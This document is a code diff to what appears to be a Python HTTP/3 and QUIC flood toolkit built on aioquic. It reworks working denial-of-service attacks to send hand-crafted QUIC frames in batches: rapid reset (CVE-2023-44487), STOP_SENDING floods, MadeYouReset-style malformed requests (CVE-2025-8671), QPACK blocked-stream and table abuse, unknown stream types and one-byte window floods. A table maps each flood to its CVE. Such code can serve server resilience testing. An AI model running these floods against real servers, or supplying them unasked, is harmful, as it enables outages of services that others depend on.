@@ -16,6 +16,8 @@ EXCESSIVE_LOAD = 0x107
 SETTINGS = fields.frame(fields.SETTINGS, b"")
 # Pieces of a flood that are given to QUIC at once.
 BURST = 200
+# Bytes of frames in a packet.
+PACKET = 1100
 
 
 @dataclasses.dataclass(frozen=True)
@@ -42,37 +44,75 @@ def begin(attacker: Transport, settings: bytes = SETTINGS) -> int:
     return stream
 
 
-def rapid_reset(attacker: Transport) -> Iterator[int]:
-    begin(attacker)
-    while True:
-        for _ in range(BURST // 2):
-            stream = attacker.quic.get_next_available_stream_id()
-            attacker.quic.send_stream_data(stream, fields.headers())
-            attacker.send()
-            attacker.quic.reset_stream(stream, 0x10C)
-        yield BURST
+def streams(attacker: Transport, unidirectional: bool = False) -> list[int]:
+    """New ones, as many as the server allows now. aioquic takes them for closed: their frames are made here."""
+    quic, place = attacker.quic, "_local_next_stream_id_" + ("uni" if unidirectional else "bidi")
+    allowed = quic._remote_max_streams_uni if unidirectional else quic._remote_max_streams_bidi
+    first = getattr(quic, place)
+    last = min(4 * allowed + first % 4, first + 4 * BURST)
+    setattr(quic, place, max(first, last))
+    return list(range(first, last, 4))
 
 
-def stopped_responses(attacker: Transport) -> Iterator[int]:
+def send(attacker: Transport, made: list[bytes]) -> int:
+    """Frames of QUIC, several to a packet; gives how many."""
+    packets, packet = attacker.quic.raw.setdefault(Epoch.ONE_RTT, []), b""
+    for frame in made:
+        if len(packet) + len(frame) > PACKET:
+            packets.append(packet)
+            packet = b""
+        packet += frame
+    if packet:
+        packets.append(packet)
+    return len(made)
+
+
+def stream_frame(stream: int, data: bytes, fin: bool = False) -> bytes:
+    """RFC 9000 §19.8."""
+    return bytes([0x0A | fin]) + varint(stream) + varint(len(data)) + data
+
+
+def reset(stream: int, size: int) -> bytes:
+    """RFC 9000 §19.4."""
+    return b"\x04" + varint(stream) + varint(0x10C) + varint(size)
+
+
+def on_streams(made: Callable[[int], bytes], unidirectional: bool = False) -> Callable[[Transport], Iterator[int]]:
+    """The same on one stream after the other."""
+    def steps(attacker: Transport) -> Iterator[int]:
+        begin(attacker)
+        while True:
+            yield send(attacker, [made(stream) for stream in streams(attacker, unidirectional)])
+    return steps
+
+
+REQUEST = fields.headers()
+LARGE_REQUEST = fields.headers(path="/large")
+MALFORMED = fields.headers(("connection", "close"))
+BLOCKED = fields.frame(fields.HEADERS, b"\x02\x00\x80")
+
+
+def rapid_reset(stream: int) -> bytes:
+    return stream_frame(stream, REQUEST) + reset(stream, len(REQUEST))
+
+
+def stopped_response(stream: int) -> bytes:
     """STOP_SENDING instead of RESET_STREAM."""
-    begin(attacker)
-    while True:
-        for _ in range(BURST // 2):
-            stream = attacker.quic.get_next_available_stream_id()
-            attacker.quic.send_stream_data(stream, fields.headers(path="/large"), True)
-            attacker.send()
-            attacker.quic.stop_stream(stream, 0x10C)
-        yield BURST
+    return stream_frame(stream, LARGE_REQUEST, True) + b"\x05" + varint(stream) + varint(0x10C)
 
 
-def malformed(attacker: Transport) -> Iterator[int]:
-    """As MadeYouReset: the server itself has to reset the streams."""
-    begin(attacker)
-    while True:
-        for _ in range(BURST):
-            stream = attacker.quic.get_next_available_stream_id()
-            attacker.quic.send_stream_data(stream, fields.headers(("connection", "close")), True)
-        yield BURST
+def malformed(stream: int) -> bytes:
+    """As MadeYouReset: the server itself has to reset the stream."""
+    return stream_frame(stream, MALFORMED, True)
+
+
+def blocked(stream: int) -> bytes:
+    """Waits for an entry of QPACK's table that never comes, then is reset."""
+    return stream_frame(stream, BLOCKED) + reset(stream, len(BLOCKED))
+
+
+def unknown_stream(stream: int) -> bytes:
+    return stream_frame(stream, varint(0x21) + b"grease", True)
 
 
 def on_request(piece: bytes) -> Callable[[Transport], Iterator[int]]:
@@ -106,30 +146,6 @@ def on_stream(kind: bytes, piece: bytes) -> Callable[[Transport], Iterator[int]]
     return steps
 
 
-def unknown_streams(attacker: Transport) -> Iterator[int]:
-    begin(attacker)
-    while True:
-        for _ in range(BURST):
-            stream = attacker.quic.get_next_available_stream_id(True)
-            attacker.quic.send_stream_data(stream, varint(0x21) + b"grease", True)
-        yield BURST
-
-
-def blocked_streams(attacker: Transport) -> Iterator[int]:
-    """More streams than may wait for entries of the table; each waits for one that never comes, then is reset."""
-    begin(attacker)
-    while True:
-        for place in range(BURST):
-            stream = attacker.quic.get_next_available_stream_id()
-            attacker.quic.send_stream_data(stream, fields.frame(fields.HEADERS, b"\x02\x00\x80" + bytes(1000)))
-            if place % 16 == 15:
-                attacker.send()
-                for number in range(stream - 60, stream + 4, 4):
-                    attacker.quic.reset_stream(number, 0x10C)
-                attacker.send()
-        yield BURST
-
-
 def large_heads(attacker: Transport) -> Iterator[int]:
     """Heads of 60 KB that do not end, on as many streams as there may be."""
     begin(attacker)
@@ -154,28 +170,13 @@ def bomb(attacker: Transport) -> Iterator[int]:
         yield 10
 
 
-def unread_instructions(attacker: Transport) -> Iterator[int]:
-    """Requests that make the server write to its own streams, which have no window: Stream Cancellation and such."""
-    begin(attacker)
-    while True:
-        for _ in range(BURST):
-            stream = attacker.quic.get_next_available_stream_id()
-            attacker.quic.send_stream_data(stream, fields.frame(fields.HEADERS, b"\x02\x00\x80"))
-            attacker.send()
-            attacker.quic.reset_stream(stream, 0x10C)
-        yield BURST
-
-
 def tiny_windows(attacker: Transport) -> Iterator[int]:
     """128 large responses to a client that lets 1 byte more through each time."""
     begin(attacker)
-    for stream in range(0, 128 * 4, 4):
-        attacker.quic.send_stream_data(stream, fields.headers(path="/large"), True)
-    yield 128
+    opened = streams(attacker)[:128]
+    yield send(attacker, [stream_frame(stream, LARGE_REQUEST, True) for stream in opened])
     for window in itertools.count(2):
-        attacker.quic.raw[Epoch.ONE_RTT] = [b"".join(b"\x11" + varint(stream) + varint(window) for stream in range(at, at + 640, 4)
-                                               if stream < 512) for at in (0,)]
-        yield 128
+        yield send(attacker, [b"\x11" + varint(stream) + varint(window) for stream in opened])
 
 
 def garbage(attacker: Transport) -> Iterator[int]:
@@ -195,9 +196,9 @@ def garbage(attacker: Transport) -> Iterator[int]:
 UNKNOWN = fields.frame(0x21, b"")
 
 FLOODS = (
-    Flood("rapid reset", "CVE-2023-44487", rapid_reset, True),
-    Flood("responses stopped", "CVE-2023-44487", stopped_responses, True),
-    Flood("malformed requests", "CVE-2025-8671", malformed, True),
+    Flood("rapid reset", "CVE-2023-44487", on_streams(rapid_reset), True),
+    Flood("responses stopped", "CVE-2023-44487", on_streams(stopped_response), True),
+    Flood("malformed requests", "CVE-2025-8671", on_streams(malformed), True),
     Flood("empty DATA frames", "CVE-2019-9518", on_request(fields.frame(fields.DATA)), True, "proxy"),
     Flood("unknown frames on a request stream", "CVE-2019-9518", on_request(UNKNOWN), True, "proxy"),
     Flood("unknown frames on the control stream", "CVE-2019-9512", on_control(lambda _: UNKNOWN), True),
@@ -206,13 +207,14 @@ FLOODS = (
     Flood("PRIORITY_UPDATE of streams that never open", "CVE-2019-9513", on_control(lambda number: fields.priority_update(
         4 * (number % 1000))), True),
     Flood("MAX_PUSH_ID", "CVE-2019-9515", on_control(lambda number: fields.frame(fields.MAX_PUSH_ID, varint(number))), True),
-    Flood("GOAWAY", "CVE-2019-9515", on_control(lambda _: fields.frame(fields.GOAWAY, b"\0")), True),
-    Flood("Set Dynamic Table Capacity", "QPACK", on_stream(b"\2", b"\x20\x3f\xe1\x1f"), True),
-    Flood("entries inserted and never used", "QPACK", on_stream(b"\2\x3f\xe1\x1f", b"\x43abc\x03xyz"), True),
-    Flood("Stream Cancellation of no stream", "QPACK", on_stream(b"\3", b"\x40"), True),
-    Flood("streams of unknown type", "RFC 9114 §6.2", unknown_streams, True),
-    Flood("streams blocked on QPACK's table", "QPACK", blocked_streams, True),
-    Flood("streams blocked, instructions unread", "QPACK", unread_instructions, True, window=2),
+    Flood("GOAWAY", "CVE-2019-9515", on_control(lambda _: fields.frame(fields.GOAWAY, b"\0")), False),
+    Flood("Set Dynamic Table Capacity", "QPACK", on_stream(b"\2", b"\x20\x3f\xe1\x1f"), False),
+    Flood("entries inserted and never used", "QPACK", on_stream(b"\2\x3f\xe1\x1f", b"\x43abc\x03xyz"), False),
+    Flood("Stream Cancellation of no stream", "QPACK", on_stream(b"\3", b"\x40"), False),
+    # 16 may be open: fewer than what is let through in a short run.
+    Flood("streams of unknown type", "RFC 9114 §6.2", on_streams(unknown_stream, True), False),
+    Flood("streams blocked on QPACK's table", "QPACK", on_streams(blocked), True),
+    Flood("streams blocked, instructions unread", "QPACK", on_streams(blocked), True, window=2),
     Flood("QPACK bomb", "CVE-2016-6581", bomb, False),
     Flood("heads of 60 KB that do not end", "RFC 9114 §10.5", large_heads, True),
     Flood("windows opened byte by byte", "CVE-2019-9511", tiny_windows, False, window=1),
